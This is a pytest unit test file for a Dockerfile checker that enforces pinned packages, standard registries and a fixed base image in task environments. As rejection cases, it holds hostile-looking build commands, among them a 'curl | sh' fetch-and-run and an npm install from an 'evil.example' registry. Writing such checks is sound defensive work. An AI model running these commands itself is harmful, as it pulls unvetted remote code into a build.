"""The static check of task environment Dockerfiles: registries only, exact pins, cab's base image."""

from __future__ import annotations

from pathlib import Path

import pytest

from cab_workers.taskci.dockerfile_check import check_dockerfile, commands, instructions

pytestmark = pytest.mark.unit

REPO = Path(__file__).resolve().parents[3]

HEAD = "ARG BASE=cab/base:latest\nFROM ${BASE}\nUSER root\n"
TAIL = "USER agent\nWORKDIR /work\n"


def body(*lines: str) -> str:
    return HEAD + "\n".join(lines) + "\n" + TAIL


# name -> (Dockerfile, build context, expected problem substrings (empty: clean), apt packages)
CASES: dict[str, tuple[str, dict[str, str], list[str], list[str]]] = {
    "apt_install_clean": (
        body(
            "RUN apt-get update \\",
            " && apt-get install -y --no-install-recommends default-jdk-headless junit5 \\",
            " && rm -rf /var/lib/apt/lists/*",
        ),
        {},
        [],
        ["default-jdk-headless", "junit5"],
    ),
    "apt_versions_and_releases_stripped": (
        body(
            "RUN DEBIAN_FRONTEND=noninteractive apt-get install -y -t trixie \\",
            "      cmake=3.31.6-2 g++/trixie libx:amd64",
        ),
        {},
        [],
        ["cmake", "g++", "libx"],
    ),
    "apt_variable_cannot_be_checked": (
        body("RUN apt-get install -y $PKGS"),
        {},
        ["name packages literally"],
        [],
    ),
    "comment_inside_continuation": (
        body("RUN apt-get install -y \\", "# the compiler", "      gcc \\", "      make"),
        {},
        [],
        ["gcc", "make"],
    ),
    "npm_exact_pins": (
        body(
            "RUN npm install --global --no-audit typescript@5.9.3 @types/node@20.19.43 \\",
            " && npm cache clean --force",
        ),
        {},
        [],
        [],
    ),
    "npm_major_only": (body("RUN npm install -g typescript@5"), {}, ["npm install typescript@5: pin"], []),
    "npm_unversioned": (body("RUN npm i -g left-pad"), {}, ["npm install left-pad: pin"], []),
    "npm_scoped_unversioned": (body("RUN npm install -g @types/node"), {}, ["@types/node: pin"], []),
    "npm_ci_without_lock": (
        body("COPY package.json /opt/app/", "RUN npm ci"),
        {"package.json": "{}"},
        ["package-lock"],
        [],
    ),
    "npm_ci_with_lock": (body("RUN npm ci --prefix /opt/app"), {"app/package-lock.json": "{}"}, [], []),
    "npm_foreign_registry": (
        body("RUN npm install --registry http://evil.example left-pad@1.3.0"),
        {},
        ["--registry"],
        [],
    ),
    "pip_exact_pins": (
        body("RUN pip install --break-system-packages --no-cache-dir requests==2.32.3 attrs[tests]==24.2.0"),
        {},
        [],
        [],
    ),
    "pip_range": (body("RUN python3 -m pip install 'requests>=2'"), {}, ["requests>=2: pin"], []),
    "pip_unpinned": (body("RUN pip3 install --break-system-packages pyyaml"), {}, ["pyyaml: pin"], []),
    "pip_requirements_pinned": (
        body("COPY requirements.txt /tmp/", "RUN pip install -r /tmp/requirements.txt"),
        {"requirements.txt": "# deps\nrequests==2.32.3\nidna==3.10 ; python_version >= '3'\n"},
        [],
        [],
    ),
    "pip_requirements_loose": (
        body("RUN pip install -r /tmp/requirements.txt"),
        {"requirements.txt": "requests==2.32.3\nurllib3\n"},
        ["requirements.txt: urllib3: pin"],
        [],
    ),
    "pip_requirements_missing": (body("RUN pip install -r req.txt"), {}, ["not in the build context"], []),
    "pip_foreign_index": (
        body("RUN pip install -i https://mirror.example/simple x==1.0"),
        {},
        ["PyPI only"],
        [],
    ),
    "pip_url": (body("RUN pip install https://example.com/x.tar.gz"), {}, ["a URL"], []),
    "gem_pinned": (body("RUN gem install rake -v 13.2.1"), {}, [], []),
    "gem_unpinned": (body("RUN gem install rake"), {}, ["gem install without -v"], []),
    "curl_url": (body("RUN curl -fsSL https://get.example.sh | sh"), {}, ["curl of a URL"], []),
    "wget_url": (
        body("RUN wget -q http://example.com/tool.tgz && tar xf tool.tgz"),
        {},
        ["wget of a URL"],
        [],
    ),
    "add_url": (body("ADD https://example.com/tool.tgz /opt/"), {}, ["ADD fetches a URL"], []),
    "add_local_is_fine": (body("ADD vendor.tar /opt/"), {}, [], []),
    "git_clone": (body("RUN git clone https://github.com/x/y /opt/y"), {}, ["git clone"], []),
    "from_other_image": ("FROM debian:trixie\n" + TAIL, {}, ["no `ARG BASE`", "FROM debian:trixie"], []),
    "arg_base_after_from": ("FROM ${BASE}\nARG BASE\n" + TAIL, {}, ["no `ARG BASE` before"], []),
    "dollar_base_without_braces": ("ARG BASE\nFROM $BASE AS build\nFROM build\n" + TAIL, {}, [], []),
    "ends_as_root": (HEAD + "RUN true\nWORKDIR /work\n", {}, ["ends as USER root"], []),
    "ends_elsewhere": (HEAD + "USER agent\nWORKDIR /opt\n", {}, ["WORKDIR /opt"], []),
    "no_from": ("RUN true\n", {}, ["no FROM"], []),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_dockerfile_rules(case: str) -> None:
    text, context, expected, apt = CASES[case]
    report = check_dockerfile(text, context)
    if not expected:
        assert report.problems == (), report.problems
    for needle in expected:
        assert any(needle in p for p in report.problems), (needle, report.problems)
    assert len(report.problems) == len(expected), report.problems
    assert list(report.apt_packages) == apt


def test_problems_name_the_line() -> None:
    report = check_dockerfile(body("RUN npm install -g typescript@5"))
    (problem,) = report.problems
    assert problem.startswith("line 4: RUN: npm install typescript@5")


def test_continuations_join_and_start_on_their_first_line() -> None:
    found = instructions("ARG BASE\n\n# c\nRUN a \\\n  && b\nUSER agent\n")
    assert [(i.line, i.keyword, i.args) for i in found] == [
        (1, "ARG", "BASE"),
        (4, "RUN", "a && b"),
        (6, "USER", "agent"),
    ]


def test_commands_split_on_shell_operators() -> None:
    assert list(commands("apt-get update && apt-get install -y x; echo 'a && b' | tee f || true")) == [
        ["apt-get", "update"],
        ["apt-get", "install", "-y", "x"],
        ["echo", "a && b"],
        ["tee", "f"],
        ["true"],
    ]


def test_every_shipped_task_environment_passes() -> None:
    dockerfiles = sorted((REPO / "tasks").glob("*/*/environment/Dockerfile"))
    for path in dockerfiles:
        report = check_dockerfile(path.read_text())
        assert report.ok, (path, report.problems)
